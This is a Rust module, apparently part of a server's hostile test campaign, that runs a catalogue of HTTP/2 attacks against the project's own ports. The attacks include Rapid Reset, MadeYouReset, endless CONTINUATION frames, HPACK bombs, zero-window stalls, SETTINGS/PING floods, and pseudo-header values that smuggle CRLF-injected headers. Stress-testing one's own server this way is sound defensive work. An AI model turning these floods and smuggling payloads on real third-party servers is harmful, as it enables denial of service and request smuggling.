//! HTTP/2: resets, floods of frames, header blocks that grow, windows that stay shut.

use std::io;

use super::{Attack, attack};
use crate::campaign::hostile::attacker::{Attacker, Flood};
use crate::campaign::hostile::wire::http2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, NEWEST, PADDED,
    PING, PRIORITY, SETTINGS, frame, headers, kept, literal, opening, request, reset, settings,
    window_update,
};

pub const ATTACKS: &[Attack] = &[
    attack(
        "rapid-reset",
        "h2",
        "requests, each reset at once",
        1,
        3,
        rapid_reset,
    ),
    attack(
        "made-you-reset",
        "h2",
        "errors on streams, in place of resets",
        1,
        3,
        made_you_reset,
    ),
    attack(
        "continuations",
        "h2",
        "CONTINUATION without an end",
        1,
        3,
        continuations,
    ),
    attack(
        "slow-h2-heads",
        "h2",
        "a byte of a header block each 100 ms",
        1,
        8,
        slow_heads,
    ),
    attack(
        "silent-h2",
        "h2",
        "prefaces, whole or in part",
        1,
        8,
        silent,
    ),
    attack("settings-flood", "h2", "SETTINGS", 1, 3, settings_flood),
    attack(
        "ping-flood",
        "h2",
        "PING, answers not read",
        1,
        3,
        ping_flood,
    ),
    attack(
        "window-updates",
        "h2",
        "WINDOW_UPDATE of 1",
        1,
        3,
        window_updates,
    ),
    attack("priorities", "h2", "PRIORITY", 1, 3, priorities),
    attack(
        "unknown-frames",
        "h2",
        "frames of kinds that are not known",
        1,
        3,
        unknown_frames,
    ),
    attack(
        "empty-data",
        "h2",
        "empty and padded DATA",
        1,
        3,
        empty_data,
    ),
    attack(
        "hpack-bombs",
        "h2",
        "references to an entry of 4 kB",
        1,
        3,
        hpack_bombs,
    ),
    attack(
        "hpack-junk",
        "h2",
        "header blocks that are wrong",
        4,
        3,
        hpack_junk,
    ),
    attack(
        "zero-window",
        "h2",
        "128 requests, a byte of window at a time",
        1,
        8,
        zero_window,
    ),
    attack(
        "stream-flood",
        "h2",
        "streams above the limit",
        1,
        3,
        stream_flood,
    ),
    attack(
        "h2-bodies",
        "h2",
        "128 bodies that do not end",
        1,
        8,
        bodies,
    ),
    attack(
        "h2-requests",
        "h2",
        "requests without a pause",
        1,
        3,
        requests,
    ),
    attack(
        "odd-h2-requests",
        "h2",
        "pseudo-headers as they must not be",
        4,
        3,
        odd_requests,
    ),
];

/// The largest window (RFC 9113, section 6.9.1).
const WINDOW_MAX: u32 = 0x7fff_ffff;

/// The stream of a turn.
fn stream(turn: u64) -> u32 {
    (turn as u32).wrapping_mul(2).wrapping_add(1) & WINDOW_MAX
}

fn flood(attacker: &mut Attacker, most: u64, opening: &'static [u8]) -> Flood<'static> {
    let count = attacker.random.u64(1..=most);
    Flood::new(attacker.ports.h2, count, opening)
}

/// The preface and no settings of one's own.
const OPENING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

fn rapid_reset(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&["/hello", "/slow", "/big", "/forward/hello"]);
    let block = request("GET", path);
    let flood = flood(attacker, 4, OPENING);
    attacker.flood(flood, |turn, _| {
        let stream = stream(turn);
        [headers(stream, &block, true), reset(stream)].concat()
    })
}

fn made_you_reset(attacker: &mut Attacker) -> io::Result<()> {
    let block = request("GET", "/slow");
    let how = attacker.random.u8(..6);
    let flood = flood(attacker, 4, OPENING);
    attacker.flood(flood, |turn, _| {
        let stream = stream(turn);
        let wrong = match how {
            0 => window_update(stream, 0),
            1 => [
                window_update(stream, WINDOW_MAX),
                window_update(stream, WINDOW_MAX),
            ]
            .concat(),
            2 => frame(DATA, 0, stream, b"late"),
            3 => frame(PRIORITY, 0, stream, &[0; 4]),
            4 => headers(stream, &block, true),
            // A stream that depends on itself.
            _ => frame(
                PRIORITY,
                0,
                stream,
                &[&stream.to_be_bytes()[..], &[1]].concat(),
            ),
        };
        [headers(stream, &block, true), wrong].concat()
    })
}

fn continuations(attacker: &mut Attacker) -> io::Result<()> {
    let more = match attacker.random.u8(..3) {
        0 => Vec::new(),
        1 => literal("x", "y"),
        _ => literal("x", &"y".repeat(1000)),
    };
    let flood = flood(attacker, 4, OPENING);
    attacker.flood(flood, |turn, _| match turn {
        0 => frame(HEADERS, END_STREAM, 1, &request("GET", "/hello")),
        _ => frame(CONTINUATION, 0, 1, &more).repeat(20),
    })
}

fn slow_heads(attacker: &mut Attacker) -> io::Result<()> {
    let block = [request("GET", "/hello"), literal("x", &"y".repeat(4000))].concat();
    let bytes = match attacker.random.u8(..2) {
        0 => headers(1, &block, true),
        // A frame for each byte of it.
        _ => frame(HEADERS, END_STREAM, 1, &[]),
    };
    let flood = flood(attacker, 200, OPENING).slow(100).seconds(8);
    attacker.flood(flood, |turn, _| match bytes.get(turn as usize) {
        Some(byte) => vec![*byte],
        None => Vec::new(),
    })
}

fn silent(attacker: &mut Attacker) -> io::Result<()> {
    let length = attacker.random.usize(..OPENING.len() + 4);
    let whole = [OPENING, &[0, 0, 8, PING]].concat();
    let (sent, _) = whole.split_at(length.min(whole.len()));
    let flood = Flood::new(attacker.ports.h2, 300, sent)
        .slow(100)
        .seconds(12);
    attacker.flood(flood, |_, _| Vec::new())
}

fn settings_flood(attacker: &mut Attacker) -> io::Result<()> {
    let many = vec![(INITIAL_WINDOW_SIZE, 65_535); 2700];
    let block = request("GET", "/slow");
    let how = attacker.random.u8(..3);
    let flood = flood(attacker, 4, OPENING);
    attacker.flood(flood, |turn, _| match (how, turn) {
        (0, _) => settings(&[]).repeat(50),
        (1, _) => settings(&many),
        // Each change counts for all open streams.
        (_, 0..100) => headers(stream(turn), &block, true),
        (_, _) => settings(&[(INITIAL_WINDOW_SIZE, (turn % 2) as u32 * WINDOW_MAX)]),
    })
}

fn ping_flood(attacker: &mut Attacker) -> io::Result<()> {
    let pings = frame(PING, 0, 0, &[7; 8]).repeat(50);
    let flood = flood(attacker, 8, OPENING).unread();
    attacker.flood(flood, |_, _| pings.clone())
}

fn window_updates(attacker: &mut Attacker) -> io::Result<()> {
    let updates = window_update(0, 1).repeat(50);
    let flood = flood(attacker, 8, OPENING);
    attacker.flood(flood, |_, _| updates.clone())
}

fn priorities(attacker: &mut Attacker) -> io::Result<()> {
    let flood = flood(attacker, 8, OPENING);
    attacker.flood(flood, |turn, random| {
        let on = random.u32(..1 << 20).to_be_bytes();
        frame(
            PRIORITY,
            0,
            stream(turn),
            &[&on[..], &[turn as u8]].concat(),
        )
        .repeat(20)
    })
}

fn unknown_frames(attacker: &mut Attacker) -> io::Result<()> {
    let flood = flood(attacker, 8, OPENING);
    attacker.flood(flood, |turn, random| {
        let kind = random.u8(10..);
        frame(kind, turn as u8, random.u32(..9), &[0; 100]).repeat(20)
    })
}

fn empty_data(attacker: &mut Attacker) -> io::Result<()> {
    let data = match attacker.random.u8(..2) {
        0 => frame(DATA, 0, 1, &[]),
        _ => frame(DATA, PADDED, 1, &[&[255][..], b"a", &[0; 255]].concat()),
    };
    let data = data.repeat(20);
    let flood = flood(attacker, 8, OPENING);
    attacker.flood(flood, |turn, _| match turn {
        0 => headers(1, &request("POST", "/echo"), false),
        _ => data.clone(),
    })
}

/// Heads that are small on the wire and 64 kB or more when they are read.
fn hpack_bombs(attacker: &mut Attacker) -> io::Result<()> {
    let entry = kept("x-long", &"y".repeat(3900));
    let references = [1, 7, 16, 8000][attacker.random.usize(..4)];
    let path = attacker.any(&["/hello", "/slow"]);
    let flood = flood(attacker, 20, OPENING);
    attacker.flood(flood, |turn, _| {
        let first = if turn == 0 { entry.clone() } else { Vec::new() };
        let block = [request("GET", path), first, vec![NEWEST; references]].concat();
        headers(stream(turn), &block, true)
    })
}

fn hpack_junk(attacker: &mut Attacker) -> io::Result<()> {
    let block = match attacker.random.u8(..7) {
        // An index that nothing has, and the index 0.
        0 => vec![0xff, 0x80, 0x01],
        1 => vec![0x80],
        // A table larger than agreed.
        2 => vec![0x3f, 0xe1, 0xff, 0xff, 0x07],
        // An integer without an end.
        3 => vec![0xff; 100],
        // Huffman: the end of the string, and bits that are no letter.
        4 => vec![0, 0x84, 0xff, 0xff, 0xff, 0xff, 0],
        // A string that is longer than the block.
        5 => vec![0, 0x7f, 0xff, 0x03, b'a'],
        _ => vec![0x20; 1000],
    };
    let bytes = [OPENING, &headers(1, &block, true)].concat();
    attacker.try_once(attacker.ports.h2, &bytes).map(drop)
}

fn zero_window(attacker: &mut Attacker) -> io::Result<()> {
    let path = attacker.any(&["/big", "/forward/big"]);
    let block = request("GET", path);
    let shut = opening(&[(INITIAL_WINDOW_SIZE, 0)]);
    let requests: Vec<u8> = (0..128)
        .flat_map(|turn| headers(stream(turn), &block, true))
        .collect();
    let opening = [shut, window_update(0, WINDOW_MAX - 65_535), requests].concat();
    let more = attacker.random.u32(1..=3);
    let count = attacker.random.u64(1..=3);
    let flood = Flood::new(attacker.ports.h2, count, &opening).slow(1000);
    attacker.flood(flood.seconds(12), |turn, _| {
        let updates = (0..128).flat_map(|at| window_update(stream(at), more));
        let ping = frame(PING, 0, 0, &turn.to_be_bytes());
        updates.chain(ping).collect()
    })
}

fn stream_flood(attacker: &mut Attacker) -> io::Result<()> {
    let block = request("GET", "/slow");
    let flood = flood(attacker, 4, OPENING);
    attacker.flood(flood, |turn, _| headers(stream(turn), &block, true))
}

fn bodies(attacker: &mut Attacker) -> io::Result<()> {
    let block = [
        request("POST", "/echo"),
        literal("content-length", "900000"),
    ]
    .concat();
    let data = vec![b'a'; 8 * 1024];
    let opening = opening(&[]);
    let count = attacker.random.u64(1..=4);
    let flood = Flood::new(attacker.ports.h2, count, &opening).slow(2);
    attacker.flood(flood.seconds(12), |turn, _| match turn {
        0..128 => headers(stream(turn), &block, false),
        128..1024 => frame(DATA, 0, stream(turn % 128), &data),
        _ => Vec::new(),
    })
}

fn requests(attacker: &mut Attacker) -> io::Result<()> {
    let block = request("GET", "/hello");
    let flood = flood(attacker, 8, OPENING);
    attacker.flood(flood, |turn, _| {
        let ack = frame(SETTINGS, ACK, 0, &[]);
        let first = if turn == 0 { ack } else { Vec::new() };
        [first, headers(stream(turn), &block, true)].concat()
    })
}

fn odd_requests(attacker: &mut Attacker) -> io::Result<()> {
    let (name, value) = [
        (":path", ""),
        (":path", "*"),
        (":path", "/a b\r\nX: y"),
        (":method", "GET / HTTP/1.1\r\n"),
        (":scheme", "file"),
        (":status", "200"),
        (":authority", "a@b"),
        ("Upper", "case"),
        ("x", "a\r\nb: c"),
        ("x\0", "a"),
        ("connection", "close"),
        ("transfer-encoding", "chunked"),
        ("content-length", "5"),
        ("host", "other"),
        ("te", "gzip"),
    ][attacker.random.usize(..15)];
    let block = [request("POST", "/forward/echo"), literal(name, value)].concat();
    let trailers = frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        1,
        &[literal("host", "b"), literal(":path", "/")].concat(),
    );
    let bytes = [
        OPENING,
        &headers(1, &block, false),
        &frame(DATA, 0, 1, b"abc"),
        &trailers,
    ];
    attacker
        .try_once(attacker.ports.h2, &bytes.concat())
        .map(drop)
}
